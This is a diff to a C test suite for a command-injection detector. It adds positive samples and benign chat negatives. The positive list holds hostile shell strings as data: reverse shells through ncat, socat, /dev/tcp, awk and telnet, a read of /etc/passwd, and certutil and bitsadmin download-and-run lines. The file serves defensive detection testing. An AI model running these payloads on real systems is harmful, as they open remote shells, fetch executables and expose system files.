@@ -139,7 +139,15 @@ WSG_TEST(cmdi_positives)
 		"printf x|base64 -d|sh", "view=a.jpg&bcdboot/r file", "bin/ansible",
 		"/usr/bin/python3 -m http.server", "'cscli' alerts list", "${shell} -c \"echo hi\"",
 		"bash -c \"echo test\"", "$(($() 42))", ";date --file secrets.txt", "!-1!-2",
-		";$a cat $a $at test.txt", NULL,
+		";$a cat $a $at test.txt", "w\\ho\\am\\i", "%comspec% /c dir",
+		"cmd.exe /c whoami", "powershell.exe -enc sqbfafga", "sh</dev/tcp/127.0.0.1/4242",
+		"cat /e\"t\"c/pa\"s\"swd", "test\\nwhoami", "ncat 10.0.0.1 4444 -e /bin/bash",
+		"socat tcp-connect:10.0.0.1:4444 exec:/bin/sh", "xterm -display 10.0.0.1:1",
+		"telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
+		"awk 'begin {s = \"/inet/tcp/0/10.0.0.1/4242\"}'", "1 & ping -n 10 127.0.0.1 &",
+		"test | powershell -c get-process", "x | net localgroup administrators",
+		"certutil -urlcache -split -f http://x/a.exe a.exe",
+		"bitsadmin /transfer job http://x/a.exe c:\\a.exe", NULL,
 	};
 
 	for (int i = 0; pos[i]; i++)
@@ -166,7 +174,10 @@ WSG_TEST(cmdi_chat_negatives)
 		"base64 -d file | less", "diff <(ls a) <(ls b)", "$[0]", "a=5 && $a is five",
 		">(  angry", "/bin/sh: line 1: takes: command not found",
 		"sudo sh -c 'echo 1 > /proc/sys/vm/drop_caches'", "what does $() do?",
-		"what's the date -f option for?", "!-) lol", "x | $a cat", NULL,
+		"what's the date -f option for?", "!-) lol", "x | $a cat",
+		"my files are in c:\\users\\anna\\documents", "\\/etc that was",
+		"is /dev/tcp a real file?", "telnet is old | bash is better", "tom & ping pong",
+		"run xterm -display :0 on the box", "socat is like netcat", NULL,
 	};
 
 	for (int i = 0; neg[i]; i++)
